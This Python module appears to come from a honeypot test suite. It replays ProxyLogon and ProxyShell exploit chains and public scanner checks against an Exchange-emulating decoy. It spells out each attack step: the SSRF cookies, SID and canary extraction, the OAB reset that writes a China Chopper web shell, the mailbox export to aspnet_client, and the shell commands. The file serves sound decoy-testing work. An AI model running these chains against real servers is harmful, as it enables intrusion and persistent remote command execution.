"""Exploit chains and checks as attackers' tools play them, against any way of sending a request.

The requests come from ``honeyscope.testing.exploits`` (built as the public tools build them,
exchange-facts.md B.1-B.7); each step reads what it needs from the previous answer (backend name,
LegacyDN, SID, ECP canary), so the chain only completes against a persona that answers like Exchange.
``Sender`` is the transport: the in-process persona in ``store`` mode, a socket to a running decoy in
``sensor`` mode. The ``in-the-wild`` ProxyLogon style follows ``honeyscope.testing.record.
proxylogon_in_the_wild`` (the March 2021 logs: every step a POST to ``/ecp/y.js``); here the web shell's
name, folder, key, commands and user agents are parameters, so unrelated operators leave unrelated traces.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Final

from honeyscope.sensor.auth.ntlm import parse_challenge
from honeyscope.testing import exploits

Header = tuple[str, str]

_EMAIL: Final = "administrator@contoso.com"
#: Nmap's NSE default; the CSS script keeps it.
NMAP_AGENT: Final = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
#: User agents of check tools whose requests the builders leave without one (our choice where a tool
#: randomises its user agent).
CHECK_AGENTS: Final[dict[str, str]] = {
    "css-nse": NMAP_AGENT,
    "metasploit": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                  "Chrome/87.0.4280.88 Safari/537.36",
    "nuclei": "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "goby": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_3) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/70.0.3538.77 Safari/537.36",
    "lijiejie": "python-requests/2.25.1",
    "zeop": "python-requests/2.25.1",
    "tsunami": "TsunamiSecurityScanner",
    "gossithedog": "Mozilla/5.0 (Exchange check)",
}
#: The in-the-wild chain's user agents (facts C, via CISA/Volexity): discovery, SSRF steps, web shell.
WILD_AGENTS: Final = ("ExchangeServicesClient/0.0.0.0", "python-requests/2.25.1", "antSword/v2.1")
_UNC_ROOTS: Final[dict[str, str]] = {
    "owa/auth": "\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth",
    "aspnet_client": "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client",
    "aspnet_client/system_web": "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\system_web",
}


@dataclass(frozen=True, slots=True)
class Answer:
    """What a chain reads of a response."""

    status: int
    headers: Sequence[Header]
    body: bytes

    def header(self, name: str) -> str | None:
        """The first value of a response header (case-insensitive)."""
        lowered = name.lower()
        return next((value for key, value in self.headers if key.lower() == lowered), None)

    def cookies(self) -> dict[str, str]:
        """``Set-Cookie`` name → value."""
        jar: dict[str, str] = {}
        for key, value in self.headers:
            if key.lower() == "set-cookie" and "=" in value:
                name, _, rest = value.split(";")[0].partition("=")
                jar[name.strip()] = rest
        return jar


#: Sends one request (method, target, headers, body) and returns the answer.
Sender = Callable[[str, str, Sequence[Header], bytes], Answer]


@dataclass(frozen=True, slots=True)
class Shell:
    """A web shell to plant and use: file name, folder (URL path prefix), China Chopper key, commands."""

    name: str
    directory: str
    key: str
    commands: tuple[str, ...]

    @property
    def url(self) -> str:
        """The URL path the shell answers on."""
        return f"/{self.directory}/{self.name}"

    @property
    def unc_path(self) -> str:
        """Where the OAB reset writes it, as the exploits spell it."""
        return _UNC_ROOTS[self.directory] + "\\" + self.name


def _send(sender: Sender, request: exploits.ToolRequest, agent: str | None = None) -> Answer:
    headers = list(request.headers)
    if agent and not any(name.lower() == "user-agent" for name, _ in headers):
        headers.append(("User-Agent", agent))
    return sender(request.method, request.target, headers, request.body)


def _between(text: str, start: str, end: str) -> str:
    if start not in text:
        raise ChainBroken(f"the answer lacks {start!r}")
    return text.split(start, 1)[1].split(end, 1)[0]


class ChainBroken(RuntimeError):
    """The decoy did not answer as the chain needs (a persona change broke the emulation)."""


def use_shell(sender: Sender, shell: Shell, agent: str) -> None:
    """Commands through a planted China Chopper shell (MSF ``execute_command`` form)."""
    for command in shell.commands:
        _send(sender, exploits.msf_execute(shell.url, shell.key, command), agent)


def proxylogon(sender: Sender, shell: Shell, *, style: str, agents: tuple[str, str, str] = WILD_AGENTS) -> None:
    """The whole ProxyLogon chain: backend name, Autodiscover, SID, ECP logon, OAB, shell written, used."""
    if style == "metasploit":
        _proxylogon_msf(sender, shell, agents)
    else:
        _proxylogon_wild(sender, shell, agents)


def _proxylogon_wild(sender: Sender, shell: Shell, agents: tuple[str, str, str]) -> None:
    discover, chain, shell_agent = agents
    cookie = f"X-BEResource=localhost~{exploits.HAU_SSRF_ID}"  # 500 + X-FEServer names the backend
    probe = sender("POST", "/ecp/y.js", [("User-Agent", chain), ("Cookie", cookie)], b"")
    backend = (probe.header("X-FEServer") or "exch01").lower()

    def ssrf(path: str, body: str | bytes, *, agent: str = chain, ctype: str = "text/xml", session: str = "",
             sid: str = "") -> Answer:
        end = "#" if "?" in path else "?#"  # the in-the-wild form: the rest of the URL becomes the fragment
        cookie = f"X-BEResource=a]@{backend}:444{path}{end}~1941962753;" + (f" {session}" if session else "")
        headers = [("User-Agent", agent), ("Cookie", cookie), ("Content-Type", ctype)]
        headers += [("msExchLogonMailbox", sid)] if sid else []
        return sender("POST", "/ecp/y.js", headers, body.encode() if isinstance(body, str) else body)

    text = ssrf("/autodiscover/autodiscover.xml", exploits.AUTODISCOVER_BODY.format(email=_EMAIL),
                agent=discover).body.decode("utf-8", "replace")
    legacy_dn = _between(text, "<LegacyDN>", "</LegacyDN>")
    mailbox = _mailbox_server(text)
    answer = ssrf(f"/mapi/emsmdb/?MailboxId={mailbox}", legacy_dn.encode() + exploits.MAPI_CONNECT_SUFFIX,
                  ctype="application/mapi-http")
    sid = exploits.patch_sid(_between(answer.body.decode("latin-1"), "with SID ", " and MasterAccountSid"))
    jar = ssrf("/ecp/proxyLogon.ecp", f'<r at="Negotiate" ln="administrator"><s>{sid}</s></r>', sid=sid).cookies()
    if "msExchEcpCanary" not in jar:
        raise ChainBroken("proxyLogon.ecp set no msExchEcpCanary cookie")
    canary, session = jar["msExchEcpCanary"], "; ".join(f"{k}={v}" for k, v in jar.items())
    json_type = "application/json; charset=utf-8"
    ddi = "/ecp/DDI/DDIService.svc/"
    answer = ssrf(f"{ddi}GetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory", _DDI_ALL, ctype=json_type,
                  session=session, sid=sid)
    oab = ("OAB (Default Web Site)", _between(answer.body.decode("utf-8", "replace"), '"RawIdentity":"', '"'))
    external = "http://f/#" + exploits.CHOPPER.format(key=shell.key)
    ssrf(f"{ddi}SetObject?msExchEcpCanary={canary}&schema=OABVirtualDirectory",
         _oab_body(*oab, "ExternalUrl", external), ctype=json_type, session=session, sid=sid)
    ssrf(f"{ddi}SetObject?msExchEcpCanary={canary}&schema=ResetOABVirtualDirectory",
         _oab_body(*oab, "FilePathName", shell.unc_path), ctype=json_type, session=session, sid=sid)
    use_shell(sender, shell, shell_agent)


def _proxylogon_msf(sender: Sender, shell: Shell, agents: tuple[str, str, str]) -> None:
    """Metasploit's exchange_proxylogon_rce: the backend FQDN from an NTLM challenge, then its SSRF cookies."""
    _, chain, shell_agent = agents
    challenge = _send(sender, exploits.msf_rpc_fqdn(), chain).header("WWW-Authenticate") or ""
    server = _dns_computer_name(challenge) or "exch01"
    text = _send(sender, exploits.msf_autodiscover(server, _EMAIL)).body.decode("utf-8", "replace")
    legacy_dn = _between(text, "<LegacyDN>", "</LegacyDN>")
    answer = _send(sender, exploits.msf_mapi(server, legacy_dn, _mailbox_server(text)))
    sid = _between(answer.body.decode("latin-1"), "with SID ", " and MasterAccountSid")
    jar = _send(sender, exploits.msf_proxylogon(server, sid, _EMAIL)).cookies()
    if "msExchEcpCanary" not in jar:
        raise ChainBroken("proxyLogon.ecp set no msExchEcpCanary cookie")
    canary, session = jar["msExchEcpCanary"], "; ".join(f"{k}={v}" for k, v in jar.items())
    listing = _send(sender, exploits.msf_oab_get_list(server, sid, session, canary)).body.decode("utf-8", "replace")
    oab = _oab_identity(listing)
    _send(sender, exploits.msf_set_external_url(server, sid, session, canary, oab, shell.key))
    _send(sender, exploits.msf_reset_oab(server, sid, session, canary, oab, shell.name))
    # The module always writes under owa\auth (exchange_proxylogon_rce.rb).
    use_shell(sender, Shell(shell.name, "owa/auth", shell.key, shell.commands), shell_agent)


def proxyshell(sender: Sender, shell: Shell, *, mailbox: str = "kqzpa@mbxcv.xyz", agent: str = "") -> None:
    """ProxyShell as dmaasland/proxyshell-poc plays it (``testing.record.proxyshell_dmaasland``): SID,
    X-Rps-CAT, EWS draft with the encoded shell, role assignment, mailbox export to ``aspnet_client``,
    then the shell's commands."""
    subject = shell.name.removesuffix(".aspx")

    def send(request: exploits.ToolRequest) -> Answer:
        return _send(sender, request, agent or None)

    text = send(exploits.dma_post(mailbox, "/autodiscover/autodiscover.xml", exploits.AUTODISCOVER_BODY.format(
        email=_EMAIL), "text/xml")).body.decode("utf-8", "replace")
    legacy_dn = _between(text, "<LegacyDN>", "</LegacyDN>")
    answer = send(exploits.dma_post(mailbox, "/mapi/emsmdb", legacy_dn.encode() + exploits.MAPI_CONNECT_SUFFIX,
                                    "application/mapi-http"))
    sid = _between(answer.body.decode("latin-1"), "with SID ", " and MasterAccountSid")
    token = exploits.common_access_token(_EMAIL, sid)
    send(exploits.dma_create_item(mailbox, token, sid, subject, _EMAIL))

    def post(body: bytes) -> exploits.ToolRequest:
        return exploits.dma_post(mailbox, f"/powershell/?X-Rps-CAT={token}", body, "application/soap+xml;charset=UTF-8")

    client = exploits.PsrpClient()
    send(post(client.create()))
    send(post(client.receive()))
    file_path = f"\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\{subject}.aspx"
    for cmdlets in ([("New-ManagementRoleAssignment", {"Role": "Mailbox Import Export", "User": _EMAIL})],
                    [("New-MailboxExportRequest", {"Mailbox": _EMAIL, "FilePath": file_path,
                                                   "IncludeFolders": "#Drafts#",
                                                   "ContentFilter": f"Subject -eq '{subject}'"})]):
        command_id, body = client.command(cmdlets)
        send(post(body))
        send(post(client.receive(command_id)))
        send(post(client.signal(command_id)))
    send(post(client.delete()))
    url = f"/aspnet_client/{subject}.aspx"
    send(exploits.ToolRequest("GET", url))
    for command in shell.commands:
        send(exploits.dma_exec(url, "zzdel", command))


def proxylogon_check(sender: Sender, tool: str, *, agent: str = "", oast: str = "c0ff33.oast.fun") -> None:
    """One public ProxyLogon (CVE-2021-26855) check (facts B.2)."""
    requests = {
        "css-nse": exploits.css_nse_check, "metasploit": exploits.msf_proxylogon_check,
        "goby": exploits.goby_check, "lijiejie": exploits.lijiejie_check, "zeop": exploits.zeop_check,
    }
    if tool == "nuclei":
        request = exploits.nuclei_26855_check(oast)
    elif tool == "tsunami":
        request = exploits.tsunami_26855_check(oast)
    else:
        request = requests[tool]()
    _send(sender, request, agent or CHECK_AGENTS[tool])


def proxyshell_check(sender: Sender, tool: str, *, agent: str = "") -> None:
    """A public ProxyShell (CVE-2021-34473) check (facts B.6)."""
    requests = [exploits.gos_proxyshell_check()] if tool == "gossithedog" else exploits.nuclei_34473_checks()
    for request in requests:
        _send(sender, request, agent or CHECK_AGENTS[tool])


_DDI_ALL: Final = ('{"filter":{"Parameters":{"__type":"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.'
                   'ControlPanel","SelectedView":"","SelectedVDirType":"All"}},"sort":{}}')


def _oab_body(display: str, raw: str, parameter: str, value: str) -> str:
    """The DDI SetObject body the ProxyLogon exploits send."""
    return json.dumps({
        "identity": {"__type": "Identity:ECP", "DisplayName": display, "RawIdentity": raw},
        "properties": {"Parameters": {
            "__type": "JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel", parameter: value}},
    })


def _mailbox_server(autodiscover: str) -> str:
    """The ``<Server>mailbox-guid@domain</Server>`` of an Autodiscover answer."""
    for part in autodiscover.split("<Server>")[1:]:
        value = part.split("</Server>")[0]
        if "@" in value:
            return value
    raise ChainBroken("the Autodiscover answer names no mailbox server")


def _oab_identity(listing: str) -> tuple[str, str]:
    """(DisplayName, RawIdentity) of the OAB virtual directory in a DDI GetList answer."""
    try:
        rows = json.loads(listing)["d"]["Output"]
        identity = next(row["Identity"] for row in rows if "OAB" in row["Identity"]["DisplayName"])
    except (ValueError, KeyError, TypeError, StopIteration):
        raise ChainBroken("the DDI GetList answer lists no OAB virtual directory") from None
    return str(identity["DisplayName"]), str(identity["RawIdentity"])


def _dns_computer_name(www_authenticate: str) -> str | None:
    """DnsComputerName (AV pair 3) of an ``NTLM <type 2>`` challenge, lower-cased as MSF uses it."""
    _, _, blob = www_authenticate.partition(" ")
    try:
        _, _, pairs = parse_challenge(base64.b64decode(blob))
    except ValueError:
        return None
    name = pairs.get(3)
    return name.decode("utf-16-le").lower() if name else None
